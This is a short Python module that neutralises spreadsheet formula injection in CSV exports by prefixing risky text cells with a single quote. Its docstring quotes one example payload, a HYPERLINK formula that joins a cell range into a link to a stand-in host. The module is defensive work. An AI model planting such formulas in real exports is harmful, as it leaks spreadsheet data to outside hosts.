"""Text cells must never become formulas in a spreadsheet (formula or "CSV" injection, OWASP).

A partner can type `=HYPERLINK("http://x"&TEXTJOIN(",",TRUE,B2:B41),"詳細")` into a text cell; a
spreadsheet that opens an export would run it. Every CSV writer passes its cells through `defuse`.
XLSX exports write text cells as strings instead (kaidan.store.exports).
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make Excel, LibreOffice or Google Sheets read a cell as a formula."""


def defuse(value: Any) -> Any:
    """A text value starting with one of FORMULA_STARTS gets a leading single quote ('), the customary
    neutralising prefix; every other value (numbers, dates, other text) is returned unchanged, so a
    negative number stays -100. Only for `str`: pass typed values before turning them into text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
